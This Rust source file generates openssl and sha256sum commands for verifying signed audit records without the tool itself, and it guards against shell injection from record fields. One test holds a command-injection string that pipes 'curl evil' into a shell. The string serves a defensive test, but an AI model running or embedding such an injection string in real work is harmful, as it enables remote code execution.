//! Verification without Orb: the commands for openssl and sha256sum.

use std::path::{Path, PathBuf};

use super::disk;
use super::keys::Algorithm;
use super::publication::{
    RECORD, RECORD_CHAIN, RECORD_KEY, RECORD_KEY_2, RECORD_PAE, RECORD_SIG, RECORD_SIG_2, RECORD_STAMP, STORE_PREFIX,
};
use super::statement::Subject;
use super::time;
use super::verify::read_record;
use crate::{Error, Result};

/// What the commands look at beside the folder.
#[derive(Clone, Copy, Debug, Default)]
pub struct Beside<'a> {
    /// Files that the run is said to have read.
    pub inputs: &'a [PathBuf],
    /// The root of the store that the run merged into.
    pub store: Option<&'a Path>,
}

/// Commands that repeat the main checks with openssl and sha256sum, without Orb: signatures, trail hash, inputs, outputs. Each
/// fails where its check does, for a shell that stops there (`sh -e`).
///
/// # Errors
/// As [`read_record`]; [`crate::Kind::Integrity`] for an algorithm that Orb does not sign by; [`crate::Kind::Environment`]
/// when the working folder is gone.
pub fn openssl_commands(folder: &Path, beside: Beside<'_>) -> Result<String> {
    let (envelope, statement) = read_record(folder)?;
    let first = envelope.pae().len() - envelope.payload.len() + 1;
    let trail_hash = statement.predicate.trail_hash.as_deref().unwrap_or_default();
    let actor = &statement.predicate.actor;
    let mut signatures = signature(algorithm(folder, &actor.algorithm)?, RECORD_KEY, RECORD_SIG);
    if let Some(other) = actor.co_signers.iter().flatten().next() {
        signatures.push_str(&signature(algorithm(folder, &other.algorithm)?, RECORD_KEY_2, RECORD_SIG_2));
    }
    let mut others = String::new();
    if folder.join(RECORD_CHAIN).is_file() {
        let at = time::parse_utc(&statement.predicate.time.utc).unwrap_or_default() / 1000;
        others.push_str(&format!(
            "# The signer's certificate at the time of signing; get AUTHORITY.pem from the authority. Then the same key twice.\n\
             openssl verify -attime {at} -CAfile AUTHORITY.pem -untrusted {RECORD_CHAIN} -purpose any {RECORD_CHAIN}\n\
             openssl x509 -in {RECORD_CHAIN} -noout -pubkey | openssl pkey -pubin -outform DER | sha256sum\n"
        ));
    }
    if folder.join(RECORD_STAMP).is_file() {
        others.push_str(&format!(
            "# The time stamp; get TSA-AUTHORITY.pem from the authority.\n\
             openssl ts -verify -data {RECORD} -in {RECORD_STAMP} -CAfile TSA-AUTHORITY.pem\n"
        ));
    }
    // Their paths are the caller's, and the commands begin with another folder.
    let absolute = |path: &Path| std::path::absolute(path).map_err(|e| Error::io(path, &e));
    let inputs = &statement.predicate.inputs;
    if !inputs.is_empty() {
        others.push_str("# Every input: the name that it had, and its digest.\n");
        others.extend(inputs.iter().map(|i| format!("#   {}  {}\n", i.sha256, i.name)));
        let digests: Vec<&str> = inputs.iter().map(|i| i.sha256.as_str()).collect();
        for path in beside.inputs {
            let path = quoted(&absolute(path)?);
            others.push_str(&format!("sha256sum < {path} | grep -E '^({}) '\n", digests.join("|")));
        }
    }
    let (of_store, of_folder): (Vec<&Subject>, Vec<&Subject>) =
        statement.subject.iter().partition(|s| s.name.starts_with(STORE_PREFIX));
    if let Some(store) = beside.store {
        let store = quoted(&absolute(store)?);
        others.push_str(&format!("# Every file in the store.\n(cd {store} && sha256sum -c) {}\n", sums(&of_store)));
    }
    let (folder, outputs) = (quoted(folder), sums(&of_folder));
    Ok(format!(
        "cd {folder}\n\
         {signatures}\
         # Those bytes are the record's: the line of their digest.\n\
         sed 's/.*\"payload\":\"\\([^\"]*\\)\".*/\\1/' {RECORD} | base64 -d | sha256sum | grep \"$(tail -c +{first} {RECORD_PAE} | sha256sum)\"\n\
         # The trail hash: the line of it. It is the field before `where`; nothing else of that name, such as a parameter, has an\n\
         # object after it.\n\
         tail -c +{first} {RECORD_PAE} | sed 's/,\"trail_hash\":\"[0-9a-f]*\",\"where\":{{/,\"where\":{{/' | tr -d '\\n' | sha256sum | grep {trail_hash}\n\
         {others}\
         # Every output.\n\
         sha256sum -c {outputs}\n"
    ))
}

fn quoted(path: &Path) -> String {
    format!("'{}'", path.display().to_string().replace('\'', r"'\''"))
}

/// What `sha256sum -c` reads.
fn sums(subjects: &[&Subject]) -> String {
    let mut lines = String::new();
    for subject in subjects {
        let name = subject.name.strip_prefix(STORE_PREFIX).unwrap_or(&subject.name);
        // A name that a shell or sha256sum could read in another way is left to Orb's own verification.
        if disk::check_name(name).is_ok() {
            lines.push_str(&format!("{}  {name}\n", subject.digest.sha256));
        }
    }
    format!("<<'END'\n{lines}END")
}

/// The algorithm of this name. A record that nobody has verified says it, and its words become part of a command.
fn algorithm(folder: &Path, name: &str) -> Result<Algorithm> {
    Algorithm::ALL.into_iter().find(|a| a.name() == name).ok_or_else(|| {
        Error::integrity(folder.join(RECORD).display().to_string())
            .expected(format!("a signature by {}", Algorithm::ALL.map(Algorithm::name).join(", ")))
            .found(format!("ALG_REFUSED: {name:?}"))
            .advice("Run no command that others made of it. `orb audit verify` says more.")
    })
}

/// The commands for one signature over the record's bytes and its key.
fn signature(algorithm: Algorithm, key: &str, sig: &str) -> String {
    let algorithm = algorithm.name();
    let verify = match algorithm.strip_prefix("RS") {
        Some(bits) => format!("openssl dgst -sha{bits} -verify {key} -signature {sig} {RECORD_PAE}"),
        None => format!("openssl pkeyutl -verify -pubin -inkey {key} -rawin -in {RECORD_PAE} -sigfile {sig}"),
    };
    let needs = if algorithm.starts_with("RS") { String::new() } else { format!(" {algorithm} needs OpenSSL 3.5.") };
    format!(
        "# The signer's key: compare with the fingerprint that the signer told you.{needs}\n\
         openssl pkey -pubin -in {key} -outform DER | sha256sum\n\
         # The signature over the record's bytes.\n\
         {verify}\n"
    )
}

#[cfg(test)]
mod tests {
    use std::fs;

    use serde_json::json;

    use super::*;
    use crate::Kind;
    use crate::audit::canonical;
    use crate::audit::dsse::Envelope;
    use crate::audit::keys::tests::shared_key;
    use crate::audit::publication::tests::{ply, publish};
    use crate::audit::verify::tests::{forge, payload};

    #[test]
    fn commands_for_openssl() {
        let dir = tempfile::tempdir().unwrap();
        publish(dir.path());
        let out = dir.path().join("out");
        let text = openssl_commands(&out, Beside::default()).unwrap();
        assert!(
            text.contains("openssl dgst -sha256 -verify orb-record.pub.pem -signature orb-record.sig orb-record.pae")
        );
        assert!(text.contains(&format!("{}  scene.ply", canonical::sha256_hex(&ply()))));
        fs::remove_file(out.join(RECORD)).unwrap();
        assert_eq!(openssl_commands(&out, Beside::default()).unwrap_err().kind, Kind::Incomplete);
    }

    /// No word of a record reaches a shell as it stands.
    #[test]
    fn forged_words_are_no_commands() {
        let dir = tempfile::tempdir().unwrap();
        publish(dir.path());
        let out = dir.path().join("out");
        let evil = "RS256 -verify x; curl evil|sh; #";
        let (fingerprint, whole) = (shared_key().public().fingerprint(), fs::read(out.join(RECORD)).unwrap());
        let forged = |change: &dyn Fn(&mut serde_json::Value)| {
            forge(&out, shared_key(), |v| change(&mut v["predicate"]["actor"]));
            let error = openssl_commands(&out, Beside::default()).unwrap_err();
            fs::write(out.join(RECORD), &whole).unwrap();
            error
        };
        for error in [
            forged(&|actor| actor["algorithm"] = json!(evil)),
            forged(&|actor| actor["co_signers"] = json!([{"key_fingerprint": fingerprint, "algorithm": evil}])),
            forged(&|actor| actor["algorithm"] = json!("RS512")),
        ] {
            assert!(error.kind == Kind::Integrity && error.found.starts_with("ALG_REFUSED"), "{error}");
        }
    }

    /// Parameters of the names around which the trail hash is found change nothing about it.
    #[test]
    fn parameters_named_like_the_seal() {
        let dir = tempfile::tempdir().unwrap();
        publish(dir.path());
        let out = dir.path().join("out");
        let hash = "ab".repeat(32);
        for params in [
            json!({"seed": 7, "trail_hash": hash}),
            json!({"a": hash, "trail_hash": hash, "where": hash}),
            json!({"a": format!(",\"trail_hash\":\"{hash}\",\"where\":{{"), "trail_hash": "", "where": "{"}),
        ] {
            forge(&out, shared_key(), |v| v["predicate"]["params"] = params.clone());
            let trail_hash = payload(&out)["predicate"]["trail_hash"].as_str().unwrap().to_owned();
            let commands = openssl_commands(&out, Beside::default()).unwrap();
            let done = std::process::Command::new("sh").args(["-e", "-c", &commands]).output().unwrap();
            let said = String::from_utf8_lossy(&done.stdout).into_owned();
            assert!(done.status.success() && said.contains(&trail_hash), "{params}: {said} {done:?}");
        }
    }

    /// The commands as they are, in a shell that stops at the first that fails: they find what Orb finds.
    #[test]
    fn verified_without_orb() {
        let dir = tempfile::tempdir().unwrap();
        publish(dir.path());
        let (out, store) = (dir.path().join("out"), dir.path().join("it's a store"));
        fs::create_dir_all(&store).unwrap();
        fs::write(store.join("points.dbf"), b"points").unwrap();
        let photo = [dir.path().join("van.jpg")];
        fs::write(&photo[0], b"photo").unwrap();
        forge(&out, shared_key(), |v| {
            let mut subject = v["subject"][1].clone();
            subject["name"] = json!("store:points.dbf");
            subject["digest"] = json!({"sha256": canonical::sha256_hex(b"points")});
            v["subject"].as_array_mut().unwrap().push(subject);
        });
        let run = || {
            let commands = openssl_commands(&out, Beside { inputs: &photo, store: Some(&store) }).unwrap();
            let Ok(done) = std::process::Command::new("sh").args(["-e", "-c", &commands]).output() else {
                panic!("no shell");
            };
            (done.status.success(), String::from_utf8_lossy(&done.stdout).into_owned())
        };
        let (good, said) = run();
        let trail_hash = payload(&out)["predicate"]["trail_hash"].as_str().unwrap().to_owned();
        for word in ["Verified OK", &trail_hash, "scene.ply: OK", "points.dbf: OK", &canonical::sha256_hex(b"photo")] {
            assert!(said.contains(word), "{word} in {said}");
        }
        assert!(good, "{said}");
        for path in
            [&photo[0], &store.join("points.dbf"), &out.join("scene.ply"), &out.join(RECORD_SIG), &out.join(RECORD_PAE)]
        {
            let whole = fs::read(path).unwrap();
            let mut bytes = whole.clone();
            *bytes.last_mut().unwrap() ^= 1;
            fs::write(path, bytes).unwrap();
            assert!(!run().0, "{}", path.display());
            fs::write(path, whole).unwrap();
        }
        // The record itself, whose words the signed bytes have to be.
        let mut envelope = Envelope::parse(&fs::read(out.join(RECORD)).unwrap()).unwrap();
        let text = String::from_utf8(envelope.payload.clone()).unwrap();
        let pae = fs::read(out.join(RECORD_PAE)).unwrap();
        envelope.payload = text.replacen("\"seed\":7", "\"seed\":8", 1).into_bytes();
        fs::write(out.join(RECORD), envelope.to_line()).unwrap();
        assert!(!run().0 && fs::read(out.join(RECORD_PAE)).unwrap() == pae);
    }
}
